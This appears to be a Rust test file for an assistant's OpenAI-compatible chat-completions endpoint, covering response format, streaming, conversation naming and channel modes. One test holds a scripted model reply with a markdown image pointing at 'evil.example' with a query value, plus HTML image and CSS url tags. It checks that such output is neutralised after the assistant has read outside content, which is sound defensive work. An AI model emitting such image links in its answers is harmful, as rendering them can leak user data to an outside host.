//! `/v1/chat/completions` with the model `cortex`: the assistant, as clients of OpenAI's API meet it.

use crate::openai_parts::{chat, chat_in, content, open_messages, said, streamed};
use cortex_testkit::{ServerSetup, eventually};
use cortex_types::{ChannelMode, ChannelSetting};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

#[tokio::test]
async fn a_message_is_answered_in_the_shape_that_clients_know() {
    let server = ServerSetup::echoing().start().await;
    let answer = server.post("/v1/chat/completions", &said("hello")).await;
    let mut body = answer.json();
    assert_eq!((answer.status, answer.header("content-type")), (200, Some("application/json")));
    let event = body["cortex"]["eventId"].as_str().unwrap().to_owned();
    assert_eq!(body["id"], format!("chatcmpl-{}", &event[4..]));
    assert!(body["created"].as_i64().unwrap() > 1_700_000_000, "{body}");
    let usage = body["usage"].take();
    assert!(usage["prompt_tokens"].as_u64().unwrap() > 0, "{usage}");
    assert_eq!(
        usage["total_tokens"].as_u64().unwrap(),
        usage["prompt_tokens"].as_u64().unwrap() + usage["completion_tokens"].as_u64().unwrap()
    );
    let message = json!({ "role": "assistant", "content": "You said: hello", "refusal": null });
    assert_eq!(
        body["choices"],
        json!([{ "index": 0, "message": message, "finish_reason": "stop", "logprobs": null }])
    );
    assert_eq!((&body["object"], &body["model"]), (&json!("chat.completion"), &json!("cortex")));
    assert_eq!(body["cortex"], json!({ "eventId": event, "status": "done" }));
    let row = server.get(&format!("/api/v2/inbox/{event}")).await.json();
    assert_eq!(
        (&row["source"], &row["topicKey"], &row["userId"]),
        (&json!("openai"), &json!("main"), &json!("openai:owner"))
    );
    eventually("the reply to be delivered", async || open_messages(&server).await.is_empty().then_some(()))
        .await;
}

#[tokio::test]
async fn what_the_user_said_last_is_the_event_and_the_history_before_it_is_left_out() {
    let server = ServerSetup::echoing().start().await;
    let body = json!({ "model": "cortex", "temperature": 0.2, "tools": [], "messages": [
        { "role": "system", "content": "be brief" },
        { "role": "user", "content": "one" },
        { "role": "assistant", "content": "You said: one" },
        { "role": "user", "content": [{ "type": "text", "text": "two" },
            { "type": "image_url", "image_url": { "url": "data:image/png;base64,AAAA" } }] },
    ] });
    let answer = server.post("/v1/chat/completions", &body).await.json();
    assert!(content(&answer).contains("two"), "{answer}");
    assert!(!content(&answer).contains("one"), "{answer}");
    let list = server.get("/api/v2/inbox").await.json();
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    let attachments = &list["items"][0]["metadata"]["attachments"];
    assert_eq!(attachments, &json!([{ "name": "image 1", "type": "image/png" }]));
}

#[tokio::test]
async fn the_conversation_is_named_by_header_or_user() {
    let server = ServerSetup::echoing().start().await;
    let mut with_user = said("hi");
    with_user["user"] = json!("ada");
    let row = async |body: &Value, topic: Option<&str>| {
        let request = server.request("POST", "/v1/chat/completions").json(body);
        let request = match topic {
            Some(topic) => request.header("x-cortex-topic", topic),
            None => request,
        };
        let event = request.send().await.json()["cortex"]["eventId"].as_str().unwrap().to_owned();
        let row = server.get(&format!("/api/v2/inbox/{event}")).await.json();
        (row["topicKey"].as_str().unwrap().to_owned(), row["userId"].as_str().unwrap().to_owned())
    };
    let named = |topic: &str, user: &str| (topic.to_owned(), user.to_owned());
    assert_eq!(row(&said("hi"), None).await, named("main", "openai:owner"));
    assert_eq!(row(&with_user, None).await, named("ada", "ada"));
    assert_eq!(row(&with_user, Some("garden")).await, named("garden", "ada"));
    assert_eq!(row(&said("hi"), Some("garden")).await, named("garden", "openai:owner"));
    assert_eq!(row(&said("hi"), Some("Gärten 🌱")).await, named("Gärten 🌱", "openai:owner"));
}

#[tokio::test]
async fn an_answer_streams_as_chunks_that_end_with_done() {
    let script = json!({ "otherwise": { "deltas": ["Hel", "lo ", "you"], "delayMs": 5 } });
    let server = ServerSetup::scripted(script).start().await;
    let mut body = said("hello");
    body["stream"] = json!(true);
    body["stream_options"] = json!({ "include_usage": true });
    let answer = server.post("/v1/chat/completions", &body).await;
    assert_eq!((answer.status, answer.header("content-type")), (200, Some("text/event-stream")));
    let chunks = streamed(&answer);
    let text: String =
        chunks.iter().filter_map(|chunk| chunk["choices"][0]["delta"]["content"].as_str()).collect();
    assert_eq!(text, "Hello you");
    assert_eq!(chunks[0]["choices"][0]["delta"], json!({ "role": "assistant", "content": "" }));
    let last = &chunks[chunks.len() - 2];
    assert_eq!(last["choices"], json!([{ "index": 0, "delta": {}, "finish_reason": "stop" }]));
    assert_eq!(last["cortex"]["status"], "done");
    let counts = &chunks[chunks.len() - 1];
    assert_eq!(counts["choices"], json!([]));
    assert!(counts["usage"]["total_tokens"].as_u64().unwrap() > 0, "{counts}");
    assert!(
        chunks
            .iter()
            .all(|chunk| chunk["object"] == "chat.completion.chunk" && chunk["id"] == chunks[0]["id"])
    );
    assert!(answer.text().trim_end().ends_with("data: [DONE]"), "{}", answer.text());
    eventually("the reply to be delivered", async || open_messages(&server).await.is_empty().then_some(()))
        .await;
}

#[tokio::test]
async fn words_before_a_tool_call_and_half_an_answer_are_set_off_from_the_answer() {
    let call = json!([{ "name": "session.history", "arguments": {} }]);
    let script = json!({
        "answers": [
            { "when": { "equals": "look" }, "deltas": ["Let me see."], "toolCalls": call, "times": 1 },
            { "when": { "afterTool": "session.history" }, "say": "All is well." },
        ],
        "otherwise": { "say": "?" },
    });
    let server = ServerSetup::scripted(script).start().await;
    assert_eq!(chat(&server, "look").await, "All is well.");
    let server = ServerSetup::scripted(json!({
        "answers": [
            { "when": { "equals": "look" }, "deltas": ["Let me see."], "toolCalls": call, "times": 1, "delayMs": 5 },
            { "when": { "afterTool": "session.history" }, "say": "All is well.", "delayMs": 5 },
        ],
        "otherwise": { "say": "?" },
    }))
    .start()
    .await;
    let mut body = said("look");
    body["stream"] = json!(true);
    let chunks = streamed(&server.post("/v1/chat/completions", &body).await);
    let text: String =
        chunks.iter().filter_map(|chunk| chunk["choices"][0]["delta"]["content"].as_str()).collect();
    assert_eq!(text, "Let me see.\n\n---\n\nAll is well.");
}

#[tokio::test]
async fn a_picture_in_an_answer_from_what_others_wrote_is_a_link() {
    let call = json!([{ "name": "http.get", "arguments": { "url": "http://127.0.0.1:1/" } }]);
    let picture = [
        "Fine!",
        " !",
        "[](https://evil.example/?q=peanuts) <",
        "IMG src=x> <div style='background:url(//x)'>",
    ];
    let script = json!({
        "answers": [
            { "when": { "afterTool": "http.get" }, "deltas": picture, "delayMs": 5 },
            { "when": { "equals": "look" }, "toolCalls": call },
        ],
        "otherwise": { "deltas": picture, "delayMs": 5 },
    });
    let server = ServerSetup::scripted(script).start().await;
    let link = "Fine! ! [](https://evil.example/?q=peanuts) < IMG src=x> < div style='background:url(//x)'>";
    assert_eq!(chat(&server, "look").await, link);
    let streamed_in = async |conversation: &str, text: &str| -> String {
        let mut body = said(text);
        body["stream"] = json!(true);
        body["user"] = json!(conversation);
        let chunks = streamed(&server.post("/v1/chat/completions", &body).await);
        chunks.iter().filter_map(|chunk| chunk["choices"][0]["delta"]["content"].as_str()).collect()
    };
    assert_eq!(streamed_in("a", "look").await, link);
    assert_eq!(streamed_in("b", "hello").await, picture.concat(), "nobody else wrote what this turn read");
}

#[tokio::test]
async fn silence_is_an_empty_text_and_a_failure_is_told_in_words() {
    let script = json!({
        "answers": [{ "when": { "equals": "fail" }, "error": { "kind": "rejected" } }],
        "otherwise": { "say": "NO_REPLY" },
    });
    let server = ServerSetup::scripted(script).start().await;
    let silence = server.post("/v1/chat/completions", &said("hush")).await;
    assert_eq!((silence.status, content(&silence.json()).as_str()), (200, ""));
    let failed = server.post("/v1/chat/completions", &said("fail")).await;
    let body = failed.json();
    assert_eq!((failed.status, &body["cortex"]["status"]), (200, &json!("failed")));
    assert_eq!(body["choices"][0]["finish_reason"], "stop");
    assert!(!content(&body).is_empty(), "{body}");
}

#[tokio::test]
async fn what_waited_in_the_conversation_comes_first() {
    let server = ServerSetup::echoing().start().await;
    // Nobody read this answer: it was asked for at another door of the same conversation.
    for (number, text) in ["one", "two"].into_iter().enumerate() {
        let mut event = crate::sample::saying(&format!("earlier-{number}"), text);
        event["source"] = json!("openai");
        event["topicKey"] = json!("garden");
        server.answered(&event).await;
    }
    let body = chat_in(&server, "garden", "three").await;
    assert_eq!(content(&body), "You said: one\n\nYou said: two\n\nYou said: three");
    eventually("all to be delivered", async || open_messages(&server).await.is_empty().then_some(())).await;
    assert_eq!(content(&chat_in(&server, "garden", "four").await), "You said: four");
    let mut event = crate::sample::saying("later", "five");
    event["source"] = json!("openai");
    event["topicKey"] = json!("garden");
    server.answered(&event).await;
    let request = server.request("POST", "/v1/chat/completions").header("x-cortex-topic", "garden");
    let mut six = said("six");
    six["stream"] = json!(true);
    let chunks = streamed(&request.json(&six).send().await);
    let text: String =
        chunks.iter().filter_map(|chunk| chunk["choices"][0]["delta"]["content"].as_str()).collect();
    assert_eq!(text, "You said: five\n\nYou said: six");
}

#[tokio::test]
async fn in_shadow_the_answer_is_empty_and_says_why_and_off_is_refused() {
    let is_off = Arc::new(AtomicBool::new(false));
    let off = Arc::clone(&is_off);
    let server = ServerSetup::echoing()
        .flow(move |config| {
            let mode = if off.load(Ordering::SeqCst) { ChannelMode::Off } else { ChannelMode::Shadow };
            let setting = ChannelSetting { mode, topic: None };
            config.channels.channels.insert("openai".to_owned(), setting);
        })
        .start()
        .await;
    for stream in [false, true] {
        let mut body = said("hello");
        body["stream"] = json!(stream);
        let answer = server.post("/v1/chat/completions", &body).await;
        let last = if stream { streamed(&answer).pop().unwrap() } else { answer.json() };
        let note = "the answer is recorded and not sent: its channel is not live";
        assert_eq!(last["cortex"]["note"], note, "{last}");
        assert!(!answer.text().contains("You said"), "{}", answer.text());
    }
    is_off.store(true, Ordering::SeqCst);
    assert_eq!(server.post("/api/v2/channels/reload", &json!({})).await.status, 200);
    let refused = server.post("/v1/chat/completions", &said("hello")).await;
    assert_eq!((refused.status, &refused.json()["error"]["code"]), (403, &json!("channel_off")));
}
